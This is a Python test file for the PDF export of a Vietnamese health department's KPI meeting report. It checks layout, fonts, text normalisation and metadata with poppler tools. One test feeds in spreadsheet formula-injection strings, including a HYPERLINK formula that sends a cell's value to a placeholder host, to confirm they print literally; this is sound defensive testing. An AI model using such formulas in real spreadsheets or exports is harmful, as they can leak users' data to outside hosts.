"""The PDF export, read back with poppler (pdftotext, pdffonts, pdfinfo) as a person's viewer would.

Expected figures come from the engine and the dashboard's formatting functions, not from the exporter.
Every page is also rendered to PNG under test-artifacts/exports/pdf for a person to look at.
"""
from __future__ import annotations

import dataclasses
import re
import subprocess
import unicodedata
from pathlib import Path

import pytest

from kpi import engine, text
from kpi.meetings.export import Table, export, file_name
from tests.export.conftest import LARGEST, with_overdue
from tests.helpers import scope

T = text.SNAPSHOT


def run(*args) -> str:
    return subprocess.run(args, check=True, capture_output=True, text=True, encoding="utf-8").stdout


def pdf_text(path: Path, *pages: int) -> str:
    span = ["-f", str(pages[0]), "-l", str(pages[-1])] if pages else []
    return run("pdftotext", "-layout", *span, str(path), "-")


def page_sizes(path: Path) -> list[tuple[float, float]]:
    """(width, height) in points of every page."""
    pages = int(re.search(r"^Pages:\s+(\d+)", run("pdfinfo", str(path)), re.M).group(1))
    info = run("pdfinfo", "-f", "1", "-l", str(pages), str(path))
    return [(float(w), float(h)) for w, h in re.findall(r"^Page\s+\d+ size:\s+([\d.]+) x ([\d.]+) pts", info, re.M)]


def render_to(path: Path, report) -> tuple[Path, list[tuple[float, str]]]:
    """The export written to `path`; its time is measured by bench/bench_export.py, not here."""
    steps: list[tuple[float, str]] = []
    data = export(report, "pdf", progress=lambda share, step: steps.append((share, step)))
    assert isinstance(data, bytes) and data.startswith(b"%PDF-")
    path.write_bytes(data)
    return path, steps


@pytest.fixture(scope="module")
def rendered(report, tmp_path_factory):
    return render_to(tmp_path_factory.mktemp("pdf") / file_name(report, "pdf"), report)


@pytest.fixture(scope="module")
def pdf_path(rendered) -> Path:
    return rendered[0]


def test_cover_and_summary_show_what_the_dashboard_shows(pdf_path, report, demo_db):
    shown = pdf_text(pdf_path)
    first = pdf_text(pdf_path, 1)
    assert "SỞ Y TẾ ĐỒNG NAI" in first  # the department heads the cover in capitals, as official papers do
    assert "Cải cách hành chính của Sở Y tế tỉnh Đồng Nai năm 2023" in first
    assert "Quý III/2023" in first
    assert "Họp giao ban Quý III/2023" in first and "Trần Thị B" in first
    assert "30/09/2023" in first and "12/10/2023" in first
    assert T["report_illustrative"] in first

    levels = engine.overview(demo_db, scope(LARGEST, "2023-Q3"))
    # 95,2%: 36 targets and 42 assessed tasks. CT28, CT33, CT39 restate CT13, CT11, CT14 and are counted once;
    # counted twice (attainments 0,804, 0,822 and 1,0) the figure read 94,9% over 81 items:
    # (0,949 × 81 − 2,626) / 78 ≈ 0,952. Before ongoing tasks were due at the year's end, one «Thường xuyên»
    # task under way counted as overdue (score 0) at 30/09 and it read 93,7% (0,949 × 78 / 79 ≈ 0,937).
    assert text.format_percent(levels["plan"]["attainment"].iloc[0]) == "95,2%"  # what the dashboard showed
    assert "95,2%" in first
    # Summary boxes: each label with its figure below it.
    for label in (text.OVERVIEW["metric_attainment"], text.OVERVIEW["metric_targets"], T["summary"]):
        assert label in first

    lines = shown.splitlines()
    areas = levels["area"]
    assert len(areas) == 7
    for name, attainment, status in zip(areas["name"], areas["attainment"], areas["status"]):
        figure = text.format_percent(attainment)
        # The area table: name and figure on one row; the chart: the bar's label (figure and status in words).
        assert any(name in line and figure in line for line in lines), (name, figure)
        assert f"{figure} · {text.STATUS[status]}" in first, (name, figure)

    # no task is overdue at 30/09 (ongoing tasks are due at the year's end): the section says so
    assert not (levels["task"]["status"] == "overdue").any()
    assert T["overdue"] in shown and T["none"] in shown.split(T["overdue"], 1)[1]
    assert "Trang 1/" in first


def test_overdue_tasks_are_listed_with_their_due_date(report, tmp_path):
    path, _ = render_to(tmp_path / "overdue.pdf", with_overdue(report, 2))
    shown = pdf_text(path)
    section = shown.split(T["overdue"], 1)[1]
    assert "NV01" in section and "NV02" in section and "30/09/2023" in section


def test_every_section_is_there_in_order(pdf_path, report):
    shown = pdf_text(pdf_path)
    titles = [T["summary"], T["by_area"], T["unit_area"], T["targets"], T["overdue"], T["coverage"], T["changes"]]
    positions = [shown.find(title) for title in titles]
    assert -1 not in positions, dict(zip(titles, positions))
    assert positions == sorted(positions)
    assert "So với ảnh chụp «Họp giao ban Quý II/2023» (số 1" in shown
    for title in (T["targets_met"], T["targets_missed"], T["areas_change"], T["units_change"],
                  T["tasks_overdue"], T["tasks_completed"], T["reported_since"]):
        assert title in shown
    # Every target is listed, with its code.
    for code in report.targets.frame["code"]:
        assert re.search(rf"\b{re.escape(code)}\b", shown), code


def test_a4_with_the_unit_area_table_on_a_landscape_page(pdf_path):
    sizes = page_sizes(pdf_path)
    a4 = (595.28, 841.89)
    assert all(size in (a4, a4[::-1]) for size in sizes), sizes
    assert sizes[0] == a4
    wide = [i + 1 for i, (w, h) in enumerate(sizes) if w > h]
    assert wide, sizes
    assert T["unit_area"] in pdf_text(pdf_path, wide[0])
    assert all(T["unit_area"] not in pdf_text(pdf_path, page)
               for page in range(1, len(sizes) + 1) if page not in wide)
    # Page numbers on every page, with the plan and the period.
    for page in range(1, len(sizes) + 1):
        footer = pdf_text(pdf_path, page)
        assert f"Trang {page}/{len(sizes)}" in footer
        assert "Quý III/2023" in footer


def test_metadata(pdf_path, report):
    info = run("pdfinfo", str(pdf_path))
    assert re.search(r"^Title:.*Cải cách hành chính của Sở Y tế tỉnh Đồng Nai năm 2023", info, re.M)
    assert re.search(r"^Author:\s+Sở Y tế Đồng Nai$", info, re.M)
    assert re.search(r"^CreationDate:.*Oct 12 .*2023", info, re.M)


def test_fonts_are_the_bundled_dejavu_embedded(pdf_path):
    rows = run("pdffonts", str(pdf_path)).splitlines()[2:]
    assert rows
    fonts = {}
    for row in rows:
        parts = row.split()
        # name type... encoding emb sub uni object-id gen: emb is the fifth field from the end
        fonts[parts[0]] = parts[-5]
    assert all(emb == "yes" for emb in fonts.values()), fonts
    names = " ".join(fonts)
    assert "DejaVuSans" in names and "DejaVuSansCondensed" in names and "Bold" in names


def test_vietnamese_text_is_nfc_and_exact(pdf_path, report):
    shown = pdf_text(pdf_path)
    assert unicodedata.is_normalized("NFC", shown)
    for phrase in ("Cải cách thủ tục hành chính", "Xây dựng và phát triển chính quyền điện tử, chính quyền số",
                   "Chỉ tiêu và đánh giá", "Nhiệm vụ quá hạn", "Tình hình báo cáo", "Đạt", "Gần đạt",
                   "Chưa đạt"):
        assert phrase in shown, phrase


def test_decomposed_text_is_printed_composed(report, tmp_path):
    """Text typed with combining accents (NFD) would print with misplaced accents in DejaVu; it must be
    composed first (docs/meetings.md, Exports)."""
    nfd = dataclasses.replace(report, organisation=unicodedata.normalize("NFD", "Sở Y tế Đồng Nai"),
                              plan_title=unicodedata.normalize("NFD", "Kế hoạch cải cách hành chính năm 2023"))
    assert nfd.organisation != "Sở Y tế Đồng Nai"
    path, _ = render_to(tmp_path / "nfd.pdf", nfd)
    shown = pdf_text(path)
    assert "Kế hoạch cải cách hành chính năm 2023" in shown
    assert "SỞ Y TẾ ĐỒNG NAI" in shown
    assert unicodedata.is_normalized("NFC", shown)


def test_hostile_text_is_printed_literally(hostile_report, tmp_path, exports_dir):
    """docs/reliability-catalogue.md D1/D2: formula-like text is shown as typed; a control character does not
    break the file."""
    path, _ = render_to(tmp_path / "hostile.pdf", hostile_report)
    shown = pdf_text(path)
    assert "=HYPERLINK(" in shown
    assert '=HYPERLINK("http://x.example/?"&A1,"Bấm")' in shown
    assert "@SUM(1,1)" in shown
    assert "+1+1" in shown and "-1+1" in shown and "a;=1+1" in shown
    assert "Phòng Tổ chức" in shown  # "Phòng\x0bTổ chức": the vertical tab printed as a space
    assert "\x0b" not in shown
    pages = len(page_sizes(path))
    folder = exports_dir / "pdf"
    folder.mkdir(exist_ok=True)
    for old in folder.glob("hostile-*.png"):
        old.unlink()
    run("pdftoppm", "-png", "-r", "60", str(path), str(folder / "hostile"))
    assert len(list(folder.glob("hostile-*.png"))) == pages


def test_no_previous_snapshot_and_empty_tables(report, tmp_path):
    quiet = dataclasses.replace(
        report, changes=[], changes_against=None, illustrative=False,
        overdue=Table(report.overdue.key, report.overdue.title, report.overdue.columns,
                      report.overdue.frame.iloc[0:0]))
    path, _ = render_to(tmp_path / "quiet.pdf", quiet)
    shown = pdf_text(path)
    assert T["no_previous"] in shown
    lines = [line.strip() for line in shown.splitlines() if line.strip()]
    heading = lines.index(T["overdue"])
    assert lines[heading + 1] == T["none"]
    heading = lines.index(T["changes"])
    assert lines[heading + 1] == T["no_previous"]
    assert T["report_illustrative"] not in shown
    assert "MINH HỌA" not in shown


def test_an_area_without_data_gets_no_bar(report, tmp_path, exports_dir):
    frame = report.by_area.frame.copy()
    row = frame.index[frame["name"] == "Cải cách thể chế"][0]
    frame["attainment"] = frame["attainment"].astype(object)
    frame.loc[row, ["attainment", "status"]] = [None, text.STATUS["no_data"]]
    blank = dataclasses.replace(report, by_area=Table(report.by_area.key, report.by_area.title,
                                                      report.by_area.columns, frame))
    path, _ = render_to(tmp_path / "no-data.pdf", blank)
    lines = pdf_text(path, 1).splitlines()
    # The chart writes the words where the bar would be; the table row shows "—" for the figure.
    assert any("Cải cách thể chế" in line and text.STATUS["no_data"] in line and text.MISSING not in line
               for line in lines)
    assert any("Cải cách thể chế" in line and text.MISSING in line for line in lines)
    assert not any("Cải cách thể chế" in line and "97,8%" in line for line in lines)
    (exports_dir / "pdf").mkdir(exist_ok=True)
    run("pdftoppm", "-png", "-r", "60", "-f", "1", "-l", "1", str(path), str(exports_dir / "pdf" / "no-data"))


def test_progress_is_reported_in_steps(rendered):
    _, steps = rendered
    assert len(steps) >= 4
    shares = [share for share, _ in steps]
    assert shares == sorted(shares) and shares[0] == 0 and shares[-1] == 1
    assert all(step.strip() for _, step in steps)


def test_pages_rendered_for_review(pdf_path, exports_dir):
    folder = exports_dir / "pdf"
    folder.mkdir(exist_ok=True)
    for old in folder.glob("report-*.png"):
        old.unlink()
    run("pdftoppm", "-png", "-r", "60", str(pdf_path), str(folder / "report"))
    pngs = sorted(folder.glob("report-*.png"))
    pages = len(page_sizes(pdf_path))
    assert pages >= 4
    assert len(pngs) == pages
    assert all(png.stat().st_size > 2000 for png in pngs)  # not blank
